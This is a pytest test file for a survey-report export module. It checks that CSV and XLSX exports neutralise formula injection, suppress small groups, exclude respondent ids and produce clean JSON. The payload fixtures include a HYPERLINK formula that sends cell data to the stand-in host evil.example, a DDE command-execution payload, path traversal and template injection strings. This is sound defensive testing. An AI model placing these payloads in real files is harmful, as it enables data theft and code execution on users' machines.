"""Exports: formula injection neutralised in CSV and XLSX, breakdowns suppressed, no ids, clean JSON."""

from __future__ import annotations

import csv
import json

import numpy as np
import openpyxl
import pandas as pd
import pytest

from engagesurvey.errors import EngageSurveyError
from engagesurvey.report import anonymity, exports
from engagesurvey.report import engagement as eng

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "=cmd|' /C calc'!A0"]


def _hostile_table():
    return pd.DataFrame({"unit": PAYLOADS + ["plain"], "n": [20] * 8, "mean": np.linspace(-2, 2, 8),
                         "note": PAYLOADS[::-1] + [None]})


def test_formula_injection_neutralised_in_xlsx_and_csv(tmp_path):
    table = _hostile_table()
    out = exports.write_tables({"units": table, PAYLOADS[0][:20]: table[["unit"]]}, tmp_path, basename="rep")
    wb = openpyxl.load_workbook(out["xlsx"])
    ws = wb["units"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("unit", "n", "mean", "note")
    for j, payload in enumerate(PAYLOADS):
        got = rows[j + 1][0]
        # XML reading turns a bare CR into LF; the neutralising apostrophe is what matters
        assert got.replace("\n", "\r") == "'" + payload or got == "'" + payload
        assert rows[j + 1][3].replace("\n", "\r") == "'" + PAYLOADS[::-1][j] or rows[j + 1][3] == "'" + PAYLOADS[::-1][j]
    assert rows[8][0] == "plain" and rows[8][3] is None
    assert rows[1][2] == pytest.approx(-2.0)          # numbers stay numbers, negative ones untouched
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"              # no formula anywhere
    assert len(wb.sheetnames) == 2 and not wb.sheetnames[1].startswith("=")
    with open(out["csv"]["units"], encoding="utf-8-sig", newline="") as fh:
        records = list(csv.reader(fh))
    assert len(records) == 9                          # a CR inside a cell does not start a new row
    for j, payload in enumerate(PAYLOADS):
        assert records[j + 1][0] == "'" + payload
        assert records[j + 1][3] == "'" + PAYLOADS[::-1][j]
    raw = out["csv"]["units"].read_bytes().decode("utf-8-sig")
    for line in raw.split("\r\n")[1:]:             # no physical line starts with a formula character
        assert not line.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r"))


def test_hostile_column_names_neutralised(tmp_path):
    table = pd.DataFrame({"=1+1": ["a"], "n": [9]})
    out = exports.write_tables({"t": table}, tmp_path, basename="cols")
    head = next(openpyxl.load_workbook(out["xlsx"])["t"].iter_rows(values_only=True))
    assert head[0] == "'=1+1"


def test_group_breakdowns_suppressed_before_writing(tmp_path):
    raw = pd.DataFrame({"unit": ["a", "b", "c", "d"], "n": [30, 3, 12, 8], "mean": [1.0, 2.0, 3.0, 4.0]})
    out = exports.write_tables({"units": raw}, tmp_path, basename="sup")
    back = pd.read_csv(out["csv"]["units"], encoding="utf-8-sig")
    assert list(back.unit) == ["a", "c"]  # b (n=3) and its complement d
    xl = list(openpyxl.load_workbook(out["xlsx"])["units"].iter_rows(values_only=True))
    assert [r[0] for r in xl[1:]] == ["a", "c"]
    # a table already suppressed by breakdown() passes through unchanged
    meta = pd.DataFrame({"g": ["x"] * 6 + ["y"] * 7 + ["z"] * 2})
    tab = anonymity.breakdown(pd.DataFrame({"s": np.arange(15.0)}), meta.g)["g"]
    ready = exports.prepare_table(tab, "g")
    assert list(ready.g) == list(tab.g) and (ready.n >= 5).all()
    with pytest.raises(EngageSurveyError, match="cannot be below 3"):
        exports.write_tables({"units": raw}, tmp_path, basename="sup", min_group=1)


def test_no_respondent_ids_in_exports(tmp_path):
    with pytest.raises(EngageSurveyError, match="respondent-id column 'respondent_id'"):
        exports.write_tables({"t": pd.DataFrame({"respondent_id": ["R1"], "x": [1]})}, tmp_path, basename="a")
    with pytest.raises(EngageSurveyError, match="contains a respondent id"):
        exports.write_tables({"t": pd.DataFrame({"who": ["R00017"], "x": [1]})}, tmp_path, basename="a",
                             respondent_ids=["R00017", "R00018"])
    with pytest.raises(EngageSurveyError, match="key 'respondent_id' looks like a respondent id"):
        exports.write_results_json({"respondent_id": [1, 2]}, tmp_path / "r.json")
    with pytest.raises(EngageSurveyError, match="respondent-id column 'Respondent_ID'"):
        exports.write_results_json({"t": pd.DataFrame({"Respondent_ID": ["R1"]})}, tmp_path / "r.json")
    assert not list(tmp_path.iterdir())


def test_basename_must_be_plain(tmp_path):
    for bad in ("../evil", "a/b", "", "<script>", "{{ 7*7 }}"):
        with pytest.raises(EngageSurveyError, match="must be a plain file name"):
            exports.write_tables({"t": pd.DataFrame({"x": [1]})}, tmp_path, basename=bad)
    with pytest.raises(EngageSurveyError, match="non-empty dict"):
        exports.write_tables({}, tmp_path, basename="ok")


def test_results_json_is_clean(tmp_path):
    rng = np.random.default_rng(1)
    scores = pd.DataFrame({"A": rng.normal(size=60), "C": rng.normal(size=60)})
    scores["E"] = scores.A + rng.normal(size=60)
    rw = eng.relative_weights(scores, "E", ["A", "C"], n_boot=20, seed=3)
    results = {"relative_weights": rw, "nan": np.nan, "inf": np.float64(np.inf), "i": np.int64(3),
               "arr": np.array([1.5, np.nan]), "ci": (np.float64(0.1), 0.2), "flag": np.bool_(True),
               "table": pd.DataFrame({"unit": ["a"], "n": [7], "x": [np.nan]})}
    path = exports.write_results_json(results, tmp_path / "out" / "results.json")
    text = path.read_text(encoding="utf-8")
    assert "NaN" not in text and "Infinity" not in text
    data = json.loads(text)
    assert data["nan"] is None and data["inf"] is None and data["i"] == 3 and data["flag"] is True
    assert data["arr"] == [1.5, None] and data["ci"] == [0.1, 0.2]
    assert data["table"] == [{"unit": "a", "n": 7, "x": None}]
    assert data["relative_weights"]["r2"] == pytest.approx(rw.r2)
    assert {r["driver"] for r in data["relative_weights"]["table"]} == {"A", "C"}
    assert "boot" not in data["relative_weights"]
    with pytest.raises(EngageSurveyError, match="must be a dict"):
        exports.write_results_json([1], tmp_path / "x.json")
